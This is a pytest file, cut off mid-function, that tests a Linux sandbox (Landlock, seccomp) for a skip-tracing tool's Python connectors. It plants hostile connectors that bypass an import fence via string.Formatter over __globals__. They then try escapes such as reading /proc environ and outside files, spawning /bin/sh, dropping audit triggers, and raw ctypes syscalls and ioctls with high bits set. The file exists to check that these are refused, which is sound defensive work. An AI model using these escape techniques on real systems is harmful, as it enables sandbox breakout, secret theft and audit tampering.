"""Hostile Python connectors: each passes the import fence, then tries to break a promise from
inside its own code. The sandbox must hold whatever the code does: no byte reaches a listener
except through the guard to a declared origin, the audit log and its triggers stay intact, no
file outside the connector's folder is read or written, and the environment is not readable.

Every connector reaches ``sys`` the way a reviewer did (``string.Formatter().get_field`` over a
function's ``__globals__``), which the fence cannot see, and then has the whole standard
library: the test is that the operating system refuses, not that a string is caught.
"""

from __future__ import annotations

import ast
import asyncio
import errno
import os
import re
import resource
import signal
import site
import socket
import sqlite3
import subprocess
import sys
import textwrap
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import closing, suppress
from pathlib import Path
from typing import Any

import pyseccomp
import pytest
from landlock import FSAccess, Ruleset
from typer.testing import CliRunner

from skiptrace.audit import AuditLog
from skiptrace.cli import app
from skiptrace.connectors import _confine
from skiptrace.connectors import _zygote as zygote_module
from skiptrace.connectors._confine import unavailable
from skiptrace.connectors._registry import load_manifest
from skiptrace.connectors._sandbox import Mode
from skiptrace.connectors._zygote import Worker, Zygote
from skiptrace.policy import Policy, merge
from skiptrace.records import Query
from skiptrace.research.run import Run
from skiptrace.state import builtin_dir
from skiptrace.testing.replay import ReplayServer, Reply, allowing, loopback_policy_file
from skiptrace.testing.starter import LentStarter, SharedStarters

pytestmark = pytest.mark.skipif(
    bool(unavailable()), reason=f"no sandbox on this machine: {unavailable()}"
)

PRELUDE = """
import dataclasses
import string

from skiptrace.connectors import Query, Session, SourceRecord

SYS = string.Formatter().get_field("0.__globals__[sys]", (dataclasses.dataclass,), {})[0]
LOAD = SYS.modules["importlib"].import_module
BUILTINS = SYS.modules["builtins"]


def syscall(number, *args):
    ctypes = LOAD("ctypes")
    result = ctypes.CDLL(None, use_errno=True).syscall(number, *args)
    if result == -1:
        code = ctypes.get_errno()
        raise BUILTINS.PermissionError(code, "EPERM") if code == 1 else BUILTINS.OSError(code, "")
    return result


STDLIB = LOAD("sysconfig").get_paths()["stdlib"]


def attempt(action):
    try:
        result = action()
    except BaseException as exc:  # noqa: BLE001
        return "refused " + repr(exc)[:80]
    return "refused -1" if result == -1 else "OPEN " + repr(result)[:200]  # -1: a syscall's no
"""

TEMPLATE = """
class Hostile:
    async def search(self, session: Session, query: Query) -> list[SourceRecord]:
        page = await session.get("https://hostile.example/start", {{"q": query.get("employer")}})
        outcome = attempt(lambda: {action})
        return [SourceRecord(session.provenance(page), person_name="outcome", employer=outcome)]


CONNECTOR = Hostile()
"""

MANIFEST = """id = "hostile"
name = "hostile"
version = "1"
gives = ["employer"]
needs = ["employer"]
terms = "https://hostile.example/terms"
origins = ["https://hostile.example"]
python = "hostile.py"
"""


class Listener:
    """A TCP listener on loopback that counts the bytes anyone sends it (bounded lifetime)."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received = 0
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            except OSError:  # shut down: closed
                return
            self.connections += 1
            with conn:
                conn.settimeout(0.5)
                with suppress(OSError):
                    self.received += len(conn.recv(65536))

    def close(self) -> None:
        """Stopped at once: its accept is woken by the shutdown, not left to its timeout (0.2 s
        a test)."""
        self._stop.set()
        with suppress(OSError):
            self.sock.shutdown(socket.SHUT_RDWR)
        self._thread.join(2)
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    bait = Listener()
    yield bait
    bait.close()


@pytest.fixture
def secrets(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Path | str]:
    """A file outside the connector's folder, a place to plant one, and a secret in the env."""
    secret = tmp_path / "outside" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text("the-secret-contents", encoding="utf-8")
    monkeypatch.setenv("COMPANIES_HOUSE_API_KEY", "secret-api-key-123")
    return {"secret": secret, "planted": tmp_path / "outside" / "planted.txt"}


def _written(folder: Path, source: str) -> Path:
    """A connector folder holding ``MANIFEST`` and ``source`` as its code; the manifest."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "hostile.toml").write_text(MANIFEST, encoding="utf-8")
    (folder / "hostile.py").write_text(source, encoding="utf-8")
    return folder / "hostile.toml"


def _connector(folder: Path, action: str, prelude_extra: str = "") -> Path:
    source = PRELUDE + prelude_extra + TEMPLATE.format(action=action)
    return _written(folder, textwrap.dedent(source))


def _run(manifest: Path, policy: Policy, audit: AuditLog) -> tuple[str, str, list[str]]:
    connector = load_manifest(manifest)  # the fence lets it through
    assert getattr(connector, "mode", None) == Mode.SANDBOXED
    start = Reply(200, b"{}", {"Content-Type": "application/json"})
    with ReplayServer({"/start": start}) as origin:

        async def research() -> tuple[str, str, list[str]]:
            rewrite = {"https://hostile.example": origin.base_url}
            allowed = origin.allow(policy)  # the declared origin, replayed on loopback
            async with Run(
                allowed, audit, [connector], purpose="hostile test", rewrite=rewrite
            ) as run:
                result = await run.search(connector, Query.of("ACCT-1", employer="Acme"))
            return result.status, result.detail, [r.employer for r in result.records]

        return asyncio.run(research())


def _intact(audit: AuditLog) -> None:
    assert audit.verify().ok
    with closing(sqlite3.connect(audit.path)) as db:
        found = db.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall()
    assert {"audit_no_update", "audit_no_delete"} <= {name for (name,) in found}


ESCAPES = {
    "a socket to the listener": 'LOAD("socket").create_connection(("127.0.0.1", {port}), 1)',
    "raw socket syscall through ctypes": 'LOAD("ctypes").CDLL(None).syscall(41, 2, 1, 0)',
    "read a file outside its folder": 'BUILTINS.open("{secret}").read()',
    "read the parent's environment": (
        'BUILTINS.open("/proc/" + str(LOAD("os").getppid()) + "/environ").read()'
    ),
    "write a file": 'BUILTINS.open("{planted}", "w").write("planted")',
    "start a shell": 'LOAD("subprocess").run(["/bin/sh", "-c", "echo x > {planted}"]).returncode',
    "fork": 'LOAD("os").fork()',
    "signal the parent": 'LOAD("os").kill(LOAD("os").getppid(), 15)',
    "drop the audit log's triggers": (
        'LOAD("sqlite3").connect("{audit}").execute("DROP TRIGGER IF EXISTS audit_no_update")'
    ),
    "change a file's mode outside its folder": 'LOAD("os").chmod("{secret}", 0o777)',
    "change a file's owner outside its folder": 'LOAD("os").chown("{secret}", 65534, 65534)',
    "an HTTP client of its own": (
        'LOAD("urllib.request").urlopen("http://127.0.0.1:{port}/x", timeout=1).read()'
    ),
}


SYSCALLS = {  # refused by the kernel with EPERM, not merely failing on bad arguments
    "signal the parent through rt_sigqueueinfo": (
        'syscall(129, LOAD("os").getppid(), 0, LOAD("ctypes").create_string_buffer(128))'
    ),
    "read or change the parent's limits (prlimit64)": (
        'syscall(302, LOAD("os").getppid(), 1, None, LOAD("ctypes").create_string_buffer(16))'
    ),
    "datagrams to local sockets (sendmmsg)": "syscall(307, 0, 0, 0, 0)",
    "System V shared memory": "syscall(29, 0, 4096, 0o1600)",
    "watch a mount (fanotify_init)": "syscall(300, 0, 0)",
    "set the clock": 'syscall(227, 0, LOAD("ctypes").create_string_buffer(16))',
    # threads until refused: 19,524 in one worker, and two workers used up the machine's
    # process ids, the parent then unable to start a thread or a process
    "start a thread (clone with CLONE_THREAD)": "syscall(56, 0x50F00, 0, 0, 0, 0)",
    # a pipe or socket's owner is signalled by the kernel when it can be read (O_ASYNC): no
    # kill(2) for seccomp to see, and any process of the user could be named (a review killed
    # a bystander, the starter, and signalled the next debtor's worker)
    "have the kernel signal a pipe's owner (fcntl F_SETOWN)": (
        'LOAD("fcntl").fcntl(LOAD("os").pipe()[0], 8, 1)'
    ),
    "choose that signal (fcntl F_SETSIG)": 'LOAD("fcntl").fcntl(LOAD("os").pipe()[0], 10, 9)',
    "name the owner as a thread or group (fcntl F_SETOWN_EX)": (
        'LOAD("fcntl").fcntl(LOAD("os").pipe()[0], 15, LOAD("struct").pack("ii", 1, 1))'
    ),
    "a socket's owner (ioctl FIOSETOWN)": (
        'LOAD("fcntl").ioctl(BUILTINS.getattr(LOAD("socket"), "socketpair")()[0], 0x8901, '
        'LOAD("struct").pack("i", 1))'
    ),
    # the kernel reads a command as 32 bits: one with higher bits set is the same command,
    # and a filter comparing all 64 let it through (a review killed a bystander so)
    "F_SETOWN with higher bits set": (
        'syscall(72, LOAD("os").pipe()[0], LOAD("ctypes").c_long(0x100000008), 1)'
    ),
    "FIOSETOWN with higher bits set": (
        '(lambda pair: syscall(16, pair[0].fileno(), LOAD("ctypes").c_long(0x100008901), '
        'LOAD("ctypes").create_string_buffer(4)))(BUILTINS.getattr(LOAD("socket"), "socketpair")())'
    ),
    # Landlock handles truncation only from ABI 3 (Linux 6.2): under 5.13-6.1 a worker
    # emptied any file of the user's by path, the audit log's included (a path that does
    # not exist here: the kernel refuses the call before it looks the path up)
    "empty a file by its path (truncate)": (
        'syscall(76, LOAD("ctypes").c_char_p(b"/nonexistent/skiptrace-probe"), 0)'
    ),
    # open(2) with O_TRUNC and read access only: Landlock checks the open's mode and, before
    # ABI 3 (Linux 6.2), not the truncation, so a worker emptied a file it may read (a review)
    "empty a file it may read by opening it (O_TRUNC)": (
        'LOAD("os").open(__file__, LOAD("os").O_RDONLY | LOAD("os").O_TRUNC)'
    ),
    "open with flags the filter cannot read (openat2)": (
        'syscall(437, -100, LOAD("ctypes").c_char_p(__file__.encode()), '
        'LOAD("ctypes").create_string_buffer(24), 24)'
    ),
    # the debtor file outside its folder is written (a review)
    "watch files outside its folder (inotify_init1)": "syscall(294, 0)",
    # a folder it may read watched by the older interface, and a lease that tells it when
    # another process opens a file (and holds that process up to 45 s): a review. It may read
    # the interpreter's files, not its own (it is handed its code)
    "watch a folder (fcntl F_NOTIFY)": (
        'LOAD("fcntl").fcntl(LOAD("os").open(STDLIB, 0), 1026, 0x80000001)'
    ),
    "take a lease on a file it may read (fcntl F_SETLEASE)": (
        'LOAD("fcntl").fcntl(LOAD("os").open(STDLIB + "/os.py", 0), 1024, 0)'
    ),
    # calls newer than the filter's libseccomp, which could not name them, so they were left
    # out of the filter: setxattrat (Linux 6.13) set a POSIX ACL on any file of the user's,
    # made it mode 0777, and planted attributes (a review). Paths that do not exist here
    "set a file's attributes, its ACL included (setxattrat)": (
        'syscall(463, -100, LOAD("ctypes").c_char_p(b"/nonexistent/skiptrace-probe"), 0, '
        'LOAD("ctypes").c_char_p(b"system.posix_acl_access"), '
        'LOAD("ctypes").create_string_buffer(16), 16)'
    ),
    "remove a file's attributes (removexattrat)": (
        'syscall(466, -100, LOAD("ctypes").c_char_p(b"/nonexistent/skiptrace-probe"), 0, '
        'LOAD("ctypes").c_char_p(b"user.x"))'
    ),
    "set a file's flags and project (file_setattr)": (
        'syscall(469, -100, LOAD("ctypes").c_char_p(b"/nonexistent/skiptrace-probe"), '
        'LOAD("ctypes").create_string_buffer(24), 24, 0)'
    ),
    # a file's flags, which ioctl changes on a file opened to be read: a review set chattr's
    # +A on a file of the Python installation (its owner's, as a venv's are). A pipe here
    "change a file's flags (ioctl FS_IOC_SETFLAGS)": (
        'LOAD("fcntl").ioctl(LOAD("os").pipe()[0], 0x40086602, LOAD("struct").pack("l", 0))'
    ),
    "change a file's extended flags (ioctl FS_IOC_FSSETXATTR)": (
        'LOAD("fcntl").ioctl(LOAD("os").pipe()[0], 0x401C5820, BUILTINS.bytes(28))'
    ),
    "make a file read-only for good (ioctl FS_IOC_ENABLE_VERITY)": (
        'LOAD("fcntl").ioctl(LOAD("os").pipe()[0], 0x40806685, BUILTINS.bytes(128))'
    ),
    "TIOCSTI with higher bits set": (
        'syscall(16, 0, LOAD("ctypes").c_long(0x100005412), LOAD("ctypes").create_string_buffer(1))'
    ),
    "a socket's owner group (ioctl SIOCSPGRP)": (
        'LOAD("fcntl").ioctl(BUILTINS.getattr(LOAD("socket"), "socketpair")()[0], 0x8902, '
        'LOAD("struct").pack("i", 1))'
    ),
    # leaving the run's process group: killed with its group (``kill -9 %1``, ``timeout -s
    # KILL``), the run and its starter ended, and a worker that had left it ran on for good
    "a session of its own (setsid)": 'LOAD("os").setsid()',
    "a process group of its own (setpgid)": 'LOAD("os").setpgid(0, 0)',
    # PR_SET_PDEATHSIG (1) cleared: a worker would outlive its starter again
    "not dying with its starter (prctl)": (
        f"syscall({pyseccomp.resolve_syscall(pyseccomp.Arch.NATIVE, 'prctl')}, 1, 0)"
    ),
    "not dying with its starter (prctl, the option's upper bits set)": (
        f"syscall({pyseccomp.resolve_syscall(pyseccomp.Arch.NATIVE, 'prctl')}, "
        'LOAD("ctypes").c_long(0x1_0000_0001), 0)'
    ),
}


@pytest.mark.parametrize("escape", list(SYSCALLS))
@pytest.mark.usefixtures("lent_starters")
def test_calls_a_review_found_open_are_refused_by_the_kernel(
    escape: str, tmp_path: Path, fast_policy: Policy, audit: AuditLog
) -> None:
    status, detail, [outcome] = _run(
        _connector(tmp_path / "c", SYSCALLS[escape]), fast_policy, audit
    )
    assert status == "hit", detail
    assert outcome.startswith("refused PermissionError(1,"), f"{escape}: {outcome}"


ABI_1_RIGHTS = FSAccess((1 << 13) - 1)
"""The thirteen file-system rights Landlock handles on Linux 5.13-5.18: no truncation."""


def test_where_landlock_leaves_truncation_alone_a_file_it_may_read_is_not_emptied(
    tmp_path: Path,
) -> None:
    """Before ABI 3 (Linux 6.2) Landlock lets open(2) with O_TRUNC through on a file opened to
    be read: the call filter alone keeps it whole. A child confines itself as on such a kernel
    (the rights of ABI 1, the filter) and opens a file of its folder so."""
    victim = tmp_path / "connector" / "hostile.py"
    victim.parent.mkdir()
    victim.write_text("x" * 100, encoding="utf-8")
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child
        code = 1
        try:
            calls = _confine._call_filter()
            rules = Ruleset(restrict_rules=ABI_1_RIGHTS)
            rules.allow(victim.parent, rules=FSAccess.READ_FILE | FSAccess.READ_DIR)
            rules.apply()
            calls.load()
            try:
                os.open(victim, os.O_RDONLY | os.O_TRUNC)
            except PermissionError:
                code = 0
        finally:
            os._exit(code)
    _, status = os.waitpid(pid, 0)
    assert victim.stat().st_size == 100
    assert os.waitstatus_to_exitcode(status) == 0


def test_a_hard_limit_of_open_files_below_the_sandboxs_is_kept(tmp_path: Path) -> None:
    """A review: the sandbox set its limit of open files as both soft and hard, which a user
    whose hard limit is lower may not: every Python connector failed to start. A child with a
    hard limit of 32 confines itself, and holds 32. The child keeps no file of this test
    process's (a sandbox worker is forked holding its three pipes): whatever earlier tests left
    open on this worker had made it fail on which ran first."""
    pid = os.fork()
    if pid == 0:  # pragma: no cover - the child
        code = 1
        try:
            os.closerange(3, resource.getrlimit(resource.RLIMIT_NOFILE)[0])
            resource.setrlimit(resource.RLIMIT_NOFILE, (32, 32))
            _confine.confine([tmp_path])
            code = 0
        finally:
            os._exit(code)
    _, status = os.waitpid(pid, 0)
    assert os.waitstatus_to_exitcode(status) == 0


FILLER = """
def fill_socket_pairs(most):
    \"\"\"Socket pairs made and filled until refused (at most ``most``): how many, the megabytes
    they hold, and why it stopped.\"\"\"
    pairs, made, held = [], 0, 0  # each kept: one let go is closed, its number used again
    try:
        while made < most:
            pair = BUILTINS.getattr(LOAD("socket"), "socketpair")()
            pairs.append(pair)
            pair[0].setblocking(False)
            made += 1
            while True:
                try:
                    held += LOAD("os").write(pair[0].fileno(), b"x" * 65536)  # send(2) is refused
                except BlockingIOError:
                    break
    except OSError as exc:
        return made, held >> 20, exc.errno
    return made, held >> 20, 0
"""


@pytest.mark.usefixtures("lent_starters")
def test_a_worker_cannot_hold_the_machines_memory_in_pipes_and_sockets(
    tmp_path: Path, fast_policy: Policy, audit: AuditLog
) -> None:
    """Kernel buffers are not in a process's address space: a worker inheriting the run's
    limit of open files (20,000 here) held 9,996 filled socket pairs, 2,222 MB, past its 2 GB
    of memory. It may now hold 64 files open, a few megabytes of buffers."""
    manifest = _connector(tmp_path / "c", "fill_socket_pairs(2000)", prelude_extra=FILLER)
    status, detail, [outcome] = _run(manifest, fast_policy, audit)
    assert status == "hit", detail
    made, megabytes, stopped = ast.literal_eval(outcome.removeprefix("OPEN "))
    assert stopped == errno.EMFILE and made < 32, outcome
    assert megabytes < 64, outcome


POWERS = """
def powers():
    \"\"\"The capability sets the kernel says this process has, and a socket buffer forced
    past the user's limit.\"\"\"
    sets = LOAD("ctypes").create_string_buffer(24)
    syscall(125, LOAD("struct").pack("Ii", 0x20080522, 0), sets)  # capget
    pair = BUILTINS.getattr(LOAD("socket"), "socketpair")()
    forced = attempt(lambda: pair[0].setsockopt(1, 32, 1 << 30))  # SO_SNDBUFFORCE
    return LOAD("struct").unpack("6I", sets.raw), forced
"""


@pytest.mark.usefixtures("lent_starters")
def test_a_worker_keeps_none_of_roots_powers(
    tmp_path: Path, fast_policy: Policy, audit: AuditLog
) -> None:
    """Run as root, a worker kept every capability, which Landlock and seccomp leave be: it
    forced one socket's buffer to 2 GB (SO_SNDBUFFORCE) and held 3 GB of kernel memory in it,
    past its own limit, and locked its memory. Run as another user, it has none to lose."""
    manifest = _connector(tmp_path / "c", "powers()", prelude_extra=POWERS)
    status, detail, [outcome] = _run(manifest, fast_policy, audit)
    assert status == "hit", detail
    sets, forced = ast.literal_eval(outcome.removeprefix("OPEN "))
    assert sets == (0,) * 6, outcome
    assert forced.startswith("refused PermissionError(1,"), outcome


@pytest.mark.parametrize("escape", list(ESCAPES))
@pytest.mark.usefixtures("lent_starters")
def test_a_hostile_connector_cannot_escape_its_sandbox(
    escape: str,
    tmp_path: Path,
    fast_policy: Policy,
    audit: AuditLog,
    listener: Listener,
    secrets: dict[str, Path | str],
) -> None:
    action = ESCAPES[escape].format(
        port=listener.port, secret=secrets["secret"], planted=secrets["planted"], audit=audit.path
    )
    status, detail, found = _run(_connector(tmp_path / "conn", action), fast_policy, audit)
    assert status == "hit", detail
    [outcome] = found
    assert outcome.startswith("refused "), f"{escape}: {outcome}"
    assert "the-secret-contents" not in outcome and "secret-api-key-123" not in outcome
    assert listener.connections == 0 and listener.received == 0
    assert not Path(secrets["planted"]).exists()
    assert Path(secrets["secret"]).stat().st_mode & 0o777 != 0o777
    _intact(audit)


def test_files_beside_a_python_installed_in_a_data_folder_are_not_read(
    tmp_path: Path, fast_policy: Policy, audit: AuditLog, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A review: a worker could read all of the interpreter's prefix, which is the folder a
    virtual environment was made in (``python -m venv .`` beside the debtor file) or the home
    folder of a Python built with ``--prefix=$HOME``: a connector searching for one debtor
    read every debtor of the file. Its own starter runs such an environment's Python."""
    data = tmp_path / "collections"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(data)], check=True)
    (data / "debtors.csv").write_text("account,name\nA-1,Jane Debtor\n", encoding="utf-8")
    [packages] = data.glob("lib/python*/site-packages")  # the sandbox's libraries: this one's
    (packages / "libraries.pth").write_text("\n".join(site.getsitepackages()), encoding="utf-8")
    monkeypatch.setattr(sys, "executable", str(data / "bin" / "python"))
    action = f'BUILTINS.open("{data / "debtors.csv"}").read()'
    status, detail, [outcome] = _run(_connector(tmp_path / "c", action), fast_policy, audit)
    assert status == "hit", detail
    assert outcome.startswith("refused PermissionError(13,"), outcome


def test_a_folder_a_path_file_puts_on_the_import_path_is_read_only_for_its_modules(
    tmp_path: Path, fast_policy: Policy, audit: AuditLog, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A review: a worker could read every folder on its starter's import path, and a ``.pth``
    file puts any folder there: an editable install of a flat project (``pip install -e .``
    puts the project's own folder there, where its debtor files lie) had every connector read
    them. A folder on the path that is no library folder (``site-packages``, the standard
    library's) is read only for the modules its starter loaded from it (skiptrace's own, from
    a source checkout); its other files are the user's."""
    project = tmp_path / "collections"
    (project / "acme_tools").mkdir(parents=True)
    (project / "acme_tools" / "__init__.py").write_text("", encoding="utf-8")
    (project / "debtors.csv").write_text("account,name\nA-1,Jane Debtor\n", encoding="utf-8")
    # as a .pth file in the interpreter's site-packages would: on its starter's path
    boot = f"import sys; sys.path.append({str(project)!r}); " + zygote_module._BOOT
    monkeypatch.setattr(zygote_module, "_BOOT", boot)
    action = f'BUILTINS.open("{project / "debtors.csv"}").read()'
    status, detail, [outcome] = _run(_connector(tmp_path / "c", action), fast_policy, audit)
    assert status == "hit", detail
    assert outcome.startswith("refused PermissionError(13,"), outcome


@pytest.mark.usefixtures("lent_starters")
def test_its_environment_is_empty(
    tmp_path: Path, fast_policy: Policy, audit: AuditLog, secrets: dict[str, Path | str]
) -> None:
    action = 'sorted(LOAD("os").environ)'
    _, detail, [outcome] = _run(_connector(tmp_path / "conn", action), fast_policy, audit)
    assert "COMPANIES_HOUSE_API_KEY" not in outcome and "secret-api-key-123" not in outcome
    assert outcome.startswith("OPEN ["), detail  # it could look, and found nothing of ours
    # nor anything of this process's (its starter may be a shared one, started before the key
    # was set): empty but for Python's own locale coercion
    assert set(re.findall(r"'(\w+)'", outcome)) <= {"LC_CTYPE"}, outcome


@pytest.mark.usefixtures("lent_starters")
def test_an_undeclared_origin_is_refused_by_the_guard_and_audited(
    tmp_path: Path, fast_policy: Policy, audit: AuditLog, listener: Listener
) -> None:
    folder = tmp_path / "conn"
    _connector(folder, "None")
    (folder / "hostile.py").write_text(
        PRELUDE
        + textwrap.dedent(
            f"""
            class Hostile:
                async def search(self, session: Session, query: Query) -> list[SourceRecord]:
                    name = query.get("employer")[::-1]  # reversed, past the path check
                    await session.get("http://127.0.0.1:{listener.port}/steal", {{"n": name}})
                    return []


            CONNECTOR = Hostile()
            """
        ),
        encoding="utf-8",
    )
    # the listener is a private address too: listed, so that only its origin stands in the way
    reachable = allowing(fast_policy, "the test's listener", f"http://127.0.0.1:{listener.port}")
    status, detail, _ = _run(folder / "hostile.toml", reachable, audit)
    assert status == "refused" and detail.startswith("origin:"), detail
    assert listener.connections == 0
    refused = [row for row in audit.rows() if row.event == "refused"]
    assert [row.rule for row in refused] == ["origin"]
    _intact(audit)


@pytest.mark.usefixtures("lent_starters")
def test_a_forged_answer_naming_a_page_it_never_read_is_refused(
    tmp_path: Path, fast_policy: Policy, audit: AuditLog
) -> None:
    forged = (
        '(SYS.stdout.write(LOAD("json").dumps({"op": "done", "id": 1, "records": '
        '[{"employer": "Forged Ltd", "source_url": "https://registry.example/x"}]}) + "\\n"), '
        "SYS.stdout.flush())"
    )
    status, detail, found = _run(_connector(tmp_path / "conn", forged), fast_policy, audit)
    assert status == "error" and "did not fetch" in detail, (status, detail, found)


@pytest.mark.usefixtures("lent_starters")
def test_its_code_runs_only_in_the_sandbox_never_at_discovery(
    tmp_path: Path, fast_policy: Policy, audit: AuditLog, listener: Listener
) -> None:
    folder = tmp_path / "conn"
    at_import = (
        f'\nattempt(lambda: LOAD("socket").create_connection(("127.0.0.1", {listener.port}), 1))\n'
    )
    manifest = _connector(folder, "None", prelude_extra=at_import)
    listed = CliRunner().invoke(app, ["--connectors-dir", str(folder), "connectors", "list"])
    assert listed.exit_code == 0 and "hostile" in listed.output
    assert listener.connections == 0
    status, detail, _ = _run(manifest, fast_policy, audit)
    assert status == "hit", detail
    assert listener.connections == 0 and listener.received == 0


@pytest.mark.usefixtures("lent_starters")
def test_through_enrich_on_the_command_line_the_sandbox_holds_and_no_row_is_lost(
    tmp_path: Path, listener: Listener, secrets: dict[str, Path | str]
) -> None:
    """The same code as a user runs it: `skiptrace enrich --connectors-dir`, its origin a
    loopback server the policy file allows, every row written, nothing escaped."""
    start = Reply(200, b"{}", {"Content-Type": "application/json"})
    with ReplayServer({"/start": start}) as origin:
        folder = tmp_path / "conn"
        action = (
            f'(LOAD("socket").create_connection(("127.0.0.1", {listener.port}), 1), '
            f'BUILTINS.open("{secrets["planted"]}", "w"))'
        )
        _connector(folder, action)
        for name in ("hostile.toml", "hostile.py"):
            text = (folder / name).read_text(encoding="utf-8")
            (folder / name).write_text(text.replace("https://hostile.example", origin.base_url))
        reason = "a hostile connector tried on loopback"
        policy = loopback_policy_file(
            tmp_path / "loopback.toml", origin, rate="50/s", reason=reason
        )
        debtors = tmp_path / "debtors.csv"
        debtors.write_text("id,last_name,employer\nA1,Roe,Acme\nA2,Poe,Initech\n")
        result = CliRunner().invoke(
            app,
            ["--policy", str(policy), "--connectors-dir", str(folder), "enrich", str(debtors),
             "-o", str(tmp_path / "out.csv"), "--source", "hostile", "--purpose", "hostile test",
             "--no-progress"],
        )  # fmt: skip
    assert result.exit_code == 0, result.output
    rows = (tmp_path / "out.csv").read_text(encoding="utf-8").splitlines()
    assert len(rows) == 3 and all("hostile:hit" in row for row in rows[1:]), rows
    assert listener.connections == 0 and not Path(secrets["planted"]).exists()


@pytest.mark.usefixtures("lent_starters")
def test_a_worker_asking_for_a_flood_of_pages_is_stopped(
    tmp_path: Path, fast_policy: Policy, audit: AuditLog
) -> None:
    folder = tmp_path / "conn"
    _connector(folder, "None")
    (folder / "hostile.py").write_text(
        PRELUDE
        + textwrap.dedent(
            """
            class Flood:
                async def search(self, session: Session, query: Query) -> list[SourceRecord]:
                    pages = [session.get("https://hostile.example/start", {"n": str(n)})
                             for n in range(200)]
                    await LOAD("asyncio").gather(*pages)
                    return []


            CONNECTOR = Flood()
            """
        ),
        encoding="utf-8",
    )
    status, detail, _ = _run(folder / "hostile.toml", fast_policy, audit)
    assert status == "error" and "more than 16 pages at once" in detail, (status, detail)
    sent = [row for row in audit.rows() if row.event == "request" and "/start" in row.url]
    assert len(sent) <= 16


KEEPERS = {
    "its own module": "SEEN = []",
    # the starter imported skiptrace.pages before forking the worker: the worker's copy
    "a module the starter imported": (
        "PAGES = SYS.modules['skiptrace.pages']\n"
        "if not BUILTINS.hasattr(PAGES, 'SEEN'):\n    BUILTINS.setattr(PAGES, 'SEEN', [])\n"
        "SEEN = BUILTINS.getattr(PAGES, 'SEEN')"
    ),
}


@pytest.mark.parametrize("where", list(KEEPERS))
@pytest.mark.usefixtures("lent_starters")
def test_what_a_worker_kept_of_one_debtor_never_reaches_another_debtors_search(
    tmp_path: Path, fast_policy: Policy, audit: AuditLog, where: str
) -> None:
    """One worker served a run's searches in turn: a connector that kept each debtor's
    employer in memory sent Roe's during Quartermain's search, audited under Quartermain's
    reference. Each search now has a worker of its own, forked from a starter that never runs
    connector code, so what one keeps, even in a module the starter had imported, is gone."""
    folder = tmp_path / "keeper"
    _written(folder, PRELUDE + textwrap.dedent("""
        # KEEP


        class Keeper:
            async def search(self, session: Session, query: Query) -> list[SourceRecord]:
                SEEN.append(query.get("employer"))
                page = await session.get("https://hostile.example/start", {"q": ",".join(SEEN)})
                return [SourceRecord(session.provenance(page), employer=",".join(SEEN))]


        CONNECTOR = Keeper()
        """).replace("# KEEP", KEEPERS[where]))  # fmt: skip
    connector = load_manifest(folder / "hostile.toml")
    found, asked = _searches(connector, fast_policy, audit, ["Roe Plumbing", "Quartermain"])
    assert [result.records[0].employer for result in found] == ["Roe Plumbing", "Quartermain"]
    assert asked == ["/start?q=Roe+Plumbing", "/start?q=Quartermain"]


@pytest.mark.usefixtures("lent_starters")
def test_a_worker_that_never_gets_ready_does_not_hold_the_run_open(
    tmp_path: Path, fast_policy: Policy, audit: AuditLog
) -> None:
    """A worker whose import hangs (here every start but the first) is the search's timeout,
    and the run closes: a spare worker hanging so had kept the run from closing, unbounded."""
    folder = tmp_path / "sleeper"
    marker = folder / "started-once"
    manifest = _written(folder, PRELUDE + textwrap.dedent(f"""
        if LOAD("os").path.exists({str(marker)!r}):
            LOAD("time").sleep(3600)


        class Sleeper:
            async def search(self, session: Session, query: Query) -> list[SourceRecord]:
                page = await session.get("https://hostile.example/start", {{"q": "x"}})
                return [SourceRecord(session.provenance(page), employer="fine")]


        CONNECTOR = Sleeper()
        """))  # fmt: skip
    # the second search's deadline, 0.3 s, is waited out; the first, its worker forked from a
    # starter already running, takes some 50 ms, but past 0.3 s on a machine under a load of
    # 11, so it keeps the default deadline
    quick = merge(fast_policy, {"limits": {"source_seconds": 0.3}}, "tests")
    began = time.monotonic()
    found, _ = _searches(load_manifest(manifest), fast_policy, audit, ["Acme"] * 2,
                         after=lambda result: marker.write_text(""), then=quick)  # fmt: skip
    assert [result.status for result in found] == ["hit", "timeout"], found
    assert time.monotonic() - began < 20


def _searches(
    connector: Any,
    policy: Policy,
    audit: AuditLog,
    employers: Sequence[str] = ("Acme",),
    after: Callable[[Any], object] = lambda result: None,
    then: Policy | None = None,
) -> tuple[list[Any], list[str]]:
    """A search per employer (debtors A1, A2...) through one Run on a replayed origin, each
    result given to ``after`` before the next search (and before the run closes), the searches
    after the first under ``then`` if given; the results and the paths the origin was asked
    for."""
    start = Reply(200, b"{}", {"Content-Type": "application/json"})
    with ReplayServer({"/start": start}) as origin:

        async def research() -> list[Any]:
            rewrite = {"https://hostile.example": origin.base_url}
            found = []
            async with Run(origin.allow(policy), audit, [connector], purpose="hostile test",
                           rewrite=rewrite) as run:  # fmt: skip
                for n, employer in enumerate(employers, 1):
                    found.append(await run.search(connector, Query.of(f"A{n}", employer=employer)))
                    after(found[-1])
                    run.policy = origin.allow(then) if then else run.policy
            return found

        found = asyncio.run(asyncio.wait_for(research(), 60))
        return found, [r.path for r in origin.received if r.path.startswith("/start")]


@pytest.mark.usefixtures("lent_starters")
def test_a_worker_may_read_the_paths_it_would_have_found_itself(
    tmp_path: Path, fast_policy: Policy, audit: AuditLog
) -> None:
    """Each worker found the interpreter's paths again (some 3 ms of its start); its starter now
    finds them once, before it forks. The paths a worker is confined to are those it would
    have found alone: the connector finds them as the worker did before (restated here) and
    compares. Reading outside them is refused (``test_a_hostile_connector_cannot_escape``),
    its own folder's files included: it is handed its code."""
    folder = tmp_path / "finder"
    _written(folder, PRELUDE + textwrap.dedent("""
